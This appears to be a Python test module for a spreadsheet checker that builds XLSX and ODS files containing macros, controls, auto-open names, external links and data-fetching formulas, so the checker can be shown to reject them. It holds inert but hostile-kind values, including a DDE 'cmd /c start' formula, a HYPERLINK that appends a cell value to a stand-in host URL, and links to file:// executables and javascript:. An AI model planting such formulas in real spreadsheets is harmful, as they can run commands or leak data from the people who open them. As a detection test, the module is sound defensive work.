"""Attacks by what a file holds beside its sheets: programs, and what reaches out of it.

Kinds of parts by ECMA-376 part 1, 15, and OASIS OpenDocument 1.3 part 3; what attackers do with
them is common knowledge, no source.
"""

from __future__ import annotations

from attacks_on_looks import ODS, READING, RESULT, SHEET, WORD, XLSX, OnOds, OnXlsx
from stored_books import StoredOds, StoredXlsx, ods
from xlsx_parts import MAIN

MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(60)
BOOK, FIRST = "xl/workbook.xml", "xl/worksheets/sheet1.xml"
OWN = "application/vnd.openxmlformats-officedocument.spreadsheetml"


def tied(kind: str, part: str, data: bytes = b"<x/>", said: str = "", of: str = BOOK) -> OnXlsx:
    """One more part, with the relation that makes it count."""

    def attack(book: StoredXlsx) -> None:
        book.tie(of, kind, f"/{part}")
        book.part(part, data, said)

    return attack


def outside(kind: str, target: str, of: str = FIRST) -> OnXlsx:
    """A relation that leads out of the file."""
    return lambda book: book.tie(of, kind, target, outside=True)


def further_sheet(formula: str) -> OnXlsx:
    """A sheet of somebody's own with one formula."""

    def attack(book: StoredXlsx) -> None:
        book.tie(BOOK, "worksheet", "/xl/worksheets/sheet99.xml")
        sheets = book.parts.workbook.find(f"{MAIN}sheets")
        assert sheets is not None
        book.child(sheets, '<sheet name="Notes" sheetId="99" r:id="strange"/>')
        cell = f'<c r="A1"><f>{formula}</f><v>1</v></c>'
        rows = f'<sheetData><row r="1">{cell}</row></sheetData>'
        xml = f'<worksheet xmlns="{MAIN[1:-1]}">{rows}</worksheet>'
        book.part("xl/worksheets/sheet99.xml", xml.encode(), f"{OWN}.worksheet+xml")

    return attack


def rule_with(formula: str) -> OnXlsx:
    """A conditional format beside the tables that reaches out."""
    rule = f'<cfRule type="expression" dxfId="0" priority="1"><formula>{formula}</formula></cfRule>'
    xml = f'<conditionalFormatting sqref="Z99">{rule}</conditionalFormatting>'
    return lambda book: book.after(SHEET, "conditionalFormatting", xml)


def link(to: str, cell: str) -> OnXlsx:
    """A link on a cell."""

    def attack(book: StoredXlsx) -> None:
        part = book.parts.sheet_parts[SHEET]
        book.tie(part, "hyperlink", to, outside=True)
        book.after(
            SHEET, "hyperlinks/" + MAIN + "hyperlink", f'<hyperlink ref="{cell}" r:id="strange"/>'
        )

    return attack


def in_drawing(old: bytes, new: bytes) -> OnXlsx:
    """Something put into the first drawing."""

    def attack(book: StoredXlsx) -> None:
        name = next(one for one in book.files if one.startswith("xl/drawings/drawing"))
        assert old in book.files[name]
        book.files[name] = book.files[name].replace(old, new, 1)

    return attack


XLSX["programs"] = {
    "macros": tied(f"{MICROSOFT}/vbaProject", "xl/vbaProject.bin", OLE),
    "macros under another name": tied(f"{MICROSOFT}/vbaProject", "xl/printer.bin", b"x"),
    "macros by their content type": lambda book: book.part(
        "xl/data.dat", b"x", "application/vnd.ms-office.vbaProject"
    ),
    "macros as a picture": tied("image", "xl/media/image9.png", OLE, of=FIRST),
    "a sheet of macros": tied(f"{MICROSOFT}/xlMacrosheet", "xl/macrosheets/sheet1.xml"),
    "a sheet of macros of another language": tied(
        f"{MICROSOFT}/xlIntlMacrosheet", "xl/worksheets/sheet98.xml"
    ),
    "a sheet of a dialog": tied("dialogsheet", "xl/dialogsheets/sheet1.xml"),
    "a control": tied("control", "xl/activeX/activeX1.xml", of=FIRST),
    "a control of a form": tied("ctrlProp", "xl/ctrlProps/ctrlProp1.xml", of=FIRST),
    "a menu of its own": tied(f"{MICROSOFT}/ui/extensibility", "customUI/customUI.xml", of=""),
    "an add-in": tied("webextension", "xl/webextensions/webextension1.xml"),
    "a program in the media": lambda book: book.part("xl/media/start.exe", b"MZ"),
    "a script in data": tied("customXml", "customXml/item1.xml", b"<a><script>x()</script></a>"),
    "a name called at opening": lambda book: book.name("_xlnm.Auto_Open", f"{SHEET}!$A$1"),
    "a name that is a macro": lambda book: book.name("worth", f"{SHEET}!$A$1", xlm="1"),
    "a name that is a function": lambda book: book.name("worth_2", "1", function="1"),
    "a drawing that calls": in_drawing(b'macro=""', b'macro="[0]!Go"'),
    "a button in a remark's drawing": tied(
        "vmlDrawing",
        "xl/drawings/vmlDrawing1.vml",
        b'<xml xmlns:x="x"><x:ClientData ObjectType="Button"><x:FmlaMacro>Go</x:FmlaMacro>'
        b"</x:ClientData></xml>",
        of=FIRST,
    ),
    "an unknown kind": tied("http://example.com/strange", "xl/strange.xml"),
}
XLSX["reaching out"] = {
    "another workbook": tied("externalLink", "xl/externalLinks/externalLink1.xml"),
    "another workbook by its content type": lambda book: book.part(
        "xl/other.xml", b"<x/>", f"{OWN}.externalLink+xml"
    ),
    "a query": tied(
        "customXml",
        "customXml/item1.xml",
        '<DataMashup xmlns="x">UEs=</DataMashup>'.encode("utf-16"),
    ),
    "connections": tied("connections", "xl/connections.xml"),
    "a table of a query": tied("queryTable", "xl/queryTables/queryTable1.xml", of=FIRST),
    "data in time": tied("volatileDependencies", "xl/volatileDependencies.xml"),
    "an object": tied("oleObject", "xl/embeddings/oleObject1.bin", OLE, of=FIRST),
    "a packed object": tied("package", "xl/embeddings/book.xlsx", b"PK\x03\x04", of=FIRST),
    "an object elsewhere": outside("oleObject", "file:///c:/a.doc"),
    "a picture elsewhere": outside("image", "http://example.com/a.png"),
    "a sheet elsewhere": outside("worksheet", "http://example.com/a.xml", BOOK),
    "a template elsewhere": outside("attachedTemplate", "http://example.com/a.xltx", BOOK),
    "a file by a link": outside("hyperlink", "file:///c:/windows/start.exe"),
    "a share by a link": outside("hyperlink", "\\\\server\\share\\a.xlsx"),
    "a script by a link": outside("hyperlink", "javascript:x()"),
    "a link on a result": link("http://example.com", RESULT),
    "a link on a heading": link("http://example.com", WORD),
    "a name that fetches": lambda book: book.name("rate", 'WEBSERVICE("http://example.com")'),
    "a name of another program": lambda book: book.name("go", "cmd|'/c start'!A0"),
    "a name of one sheet that fetches": lambda book: book.name(
        "rate", 'WEBSERVICE("http://example.com")', localSheetId="0"
    ),
    "a name in another file": lambda book: book.name("there", "[1]Sheet1!$A$1"),
    "a rule that fetches": rule_with('LEN(WEBSERVICE("http://example.com"))'),
    "a rule of another program": rule_with("DDE(&quot;a&quot;,&quot;b&quot;,&quot;c&quot;)=1"),
    **{
        f"a sheet of one's own with {formula[:20]}": further_sheet(formula)
        for formula in (
            'WEBSERVICE("http://example.com")',
            '_xlfn.WEBSERVICE("http://example.com")',
            "cmd|'/c start'!A0",
            "[1]Sheet1!A1",
            'RTD("a",,"b")',
            'CALL("kernel32","x")',
            '_xlfn.IMAGE("http://example.com/a.png")',
            'HYPERLINK("http://example.com/?"&amp;A1)',
            "'\\\\server\\share\\[a.xlsx]S'!A1",
        )
    },
}


# --- .ods


def inside(at: str, xml: str) -> OnOds:
    """An element put into the first of a kind."""

    def attack(book: StoredOds) -> None:
        book.put(next(book.content.iter(ods(at))), xml)

    return attack


def in_cell(xml: str) -> OnOds:
    """An element put into a cell beside the tables, in the row of the first reading."""
    return lambda book: book.put(book.cell(SHEET, READING), xml)


def in_forms(xml: str) -> OnOds:
    """A control on the sheet."""
    forms = f"<office:forms><form:form>{xml}</form:form></office:forms>"
    return lambda book: book.put(book.sheet(SHEET), forms)


def named(expression: str) -> OnOds:
    """A name of the workbook."""
    xml = (
        f'<table:named-expressions><table:named-expression table:name="rate" '
        f'table:expression="{expression}"/></table:named-expressions>'
    )
    return lambda book: book.body.append(book.put(book.body, xml))


def database(source: str) -> OnOds:
    """A range filled from elsewhere."""
    xml = (
        '<table:database-ranges><table:database-range table:name="d" '
        f'table:target-range-address="{SHEET}.Z1:{SHEET}.Z2">{source}</table:database-range>'
        "</table:database-ranges>"
    )
    return lambda book: book.body.append(book.put(book.body, xml))


def own_table(formula: str) -> OnOds:
    """A sheet of somebody's own with one formula."""
    xml = (
        '<table:table table:name="Notes"><table:table-column/><table:table-row><table:table-cell '
        f'table:formula="{formula}" office:value-type="float" office:value="1"/></table:table-row>'
        "</table:table>"
    )
    return lambda book: book.sheet(SHEET).addnext(book.put(book.body, xml))


EVENT = (
    '<script:event-listener script:language="ooo:script" script:event-name="dom:load" '
    'xlink:href="vnd.sun.star.script:x"/>'
)
ODS["programs"] = {
    "macros": lambda book: book.part("Basic/Standard/Module1.xml", b"<x/>"),
    "scripts": lambda book: book.part("Scripts/python/go.py", b"x"),
    "a dialog": lambda book: book.part("Dialogs/Standard/dialog-lb.xml", b"<x/>"),
    "a script under another name": lambda book: book.part("Pictures/go.js", b"x"),
    "a program as a picture": lambda book: book.part("Pictures/a.png", b"MZ" + bytes(60)),
    "a part of an unknown kind": lambda book: book.part("data/strange.bin", b"x"),
    "a key that calls": lambda book: book.part(
        "Configurations2/accelerator/current.xml", b'<a xlink:href="vnd.sun.star.script:x"/>'
    ),
    "a program in the content": inside("office:scripts", "<office:script/>"),
    "an event of the book": inside(
        "office:scripts", f"<office:event-listeners>{EVENT}</office:event-listeners>"
    ),
    "an event of a sheet": inside(
        "table:table", f"<office:event-listeners>{EVENT}</office:event-listeners>"
    ),
    "a button": in_forms('<form:button form:name="go"/>'),
    "a tick that writes": in_forms('<form:checkbox form:linked-cell="Bores.B9"/>'),
}
ODS["reaching out"] = {
    "a sheet of another file": inside(
        "table:table", '<table:table-source xlink:href="file:///a.ods" table:table-name="x"/>'
    ),
    "cells of another file": in_cell(
        '<table:cell-range-source table:name="x" xlink:href="file:///a.ods"/>'
    ),
    "another program": lambda book: book.body.append(
        book.put(
            book.body,
            "<table:dde-links><table:dde-link><office:dde-source office:dde-application='a'/>"
            "</table:dde-link></table:dde-links>",
        )
    ),
    "a data base": database('<table:database-source-sql table:database-name="x"/>'),
    "a table of a data base": database('<table:database-source-table table:database-name="x"/>'),
    "a picture elsewhere": in_cell(
        '<draw:frame><draw:image xlink:href="http://example.com/a.png"/></draw:frame>'
    ),
    "an object elsewhere": in_cell(
        '<draw:frame><draw:object xlink:href="file:///a.ods"/></draw:frame>'
    ),
    "an object of another program": in_cell(
        '<draw:frame><draw:object-ole xlink:href="./Object 90"/></draw:frame>'
    ),
    "a page inside": in_cell(
        '<draw:frame><draw:floating-frame xlink:href="http://example.com"/></draw:frame>'
    ),
    "an add-in inside": in_cell(
        '<draw:frame><draw:plugin xlink:href="http://example.com"/></draw:frame>'
    ),
    "a file by a link": in_cell(
        '<text:p><text:a xlink:href="file:///start.exe">x</text:a></text:p>'
    ),
    "a macro by a link": in_cell(
        '<text:p><text:a xlink:href="vnd.sun.star.script:x">x</text:a></text:p>'
    ),
    "a link on a heading": lambda book: book.put(
        book.cell(SHEET, WORD),
        '<text:p><text:a xlink:href="http://example.com">x</text:a></text:p>',
        9,
    ),
    "a name that fetches": named("of:=WEBSERVICE(&quot;http://example.com&quot;)"),
    "a name of another program": named("of:=DDE(&quot;a&quot;;&quot;b&quot;;&quot;c&quot;)"),
    "a sheet of one's own that fetches": own_table(
        "of:=COM.MICROSOFT.WEBSERVICE(&quot;http://example.com&quot;)"
    ),
    "a sheet of one's own of another file": own_table("of:=['file:///a.ods'#$S.A1]"),
}
